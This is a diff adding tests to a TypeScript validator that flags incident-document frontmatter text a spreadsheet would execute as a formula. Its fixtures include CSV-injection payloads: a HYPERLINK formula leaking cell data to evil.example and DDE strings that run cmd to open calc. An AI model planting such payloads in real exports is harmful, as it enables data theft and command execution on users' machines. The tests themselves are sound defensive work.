@@ -9,6 +9,8 @@ import { PublicVariantError, stripInternalFromSource } from '../../src/lib/strip
 import { duplicateSettings } from '../../src/lib/settings-duplicate-keys.ts';
 import { KbConfigError, loadKbConfig } from '../../src/lib/kb-config.ts';
 import { readFileSync } from 'node:fs';
+import { findSpreadsheetFormulas } from '../../src/lib/spreadsheet-formula.ts';
+import { errorsAfterEditingGoodInput, replacing } from '../support/content-fixture.ts';
 import { resolve } from 'node:path';
 
 const regime = (id: string, deadline = '{ id: a, name: Early warning, hours: 24, notification: earlyWarning }') =>
@@ -100,5 +102,22 @@ describe('site.config.ts: an option written twice (before: the first dropped wit
     expect(duplicateSettings(projectSettings)).toEqual([]);
     expect(duplicateSettings(edited('    internalNames: [],', "    internalNames: ['a: b', \"c, d:\"], // people: x, internalNames: y\n    /* publicNames: [] */"))).toEqual([]);
     expect(duplicateSettings("const settings: X = { title: 'a', sites: { public: { title: 'b' }, internal: { title: 'c' } } };")).toEqual([]);
+  });
+});
+
+describe('frontmatter text a spreadsheet runs as a formula (before: passed, and went as written into the evidence pack\'s and the trackers\' CSV files)', () => {
+  test.each([
+    ['an action item\'s title, a link sending the sheet away', '    title: Validate pool sizes in CI', '    title: \'=HYPERLINK("https://evil.example/?"&A1,"Validate pool sizes")\'', 'actionItems[0].title', 31],
+    ['a verification, a command through DDE', '    verification: CI rejects a pool of 8.', '    verification: \'@SUM(1+1)*cmd|" /C calc"!A0\'', 'actionItems[0].verification', 37],
+    ['a summary starting with a sum', 'summary: A configuration push', 'summary: =1+1 A configuration push', 'summary', 3],
+    ['a timeline event, a minus before a pipe', '    event: Config reverted.', '    event: "-2+3+cmd|\' /C calc\'!A0"', 'timeline[1].event', 27],
+  ])('%s is an error at its line', (_, from, to, field, line) => {
+    const errors = errorsAfterEditingGoodInput(replacing(from, to)).filter((f) => f.message.includes('a spreadsheet runs as a formula'));
+    expect(errors.map((f) => [f.rule, f.field, f.line])).toEqual([['schema/plain-text', field, line]]);
+    expect(errors[0].fix).toBe(`start ${field} with a word that says what follows (e.g. "The formula …"), or put the formula in the body, in a code span.`);
+  });
+  test('text that only starts with a sign, and team handles, pass (controls)', () => {
+    expect(findSpreadsheetFormulas({ title: '-5% error budget left', summary: '+1 retry per request (capped)', event: '--dry-run was ignored', reviewers: ['@acme/checkout'], verification: 'A = B after the fix' })).toEqual([]);
+    expect(errorsAfterEditingGoodInput(replacing('    event: Config reverted.', '    event: "-5% of requests failed (10 minutes)"'))).toEqual([]);
   });
 });
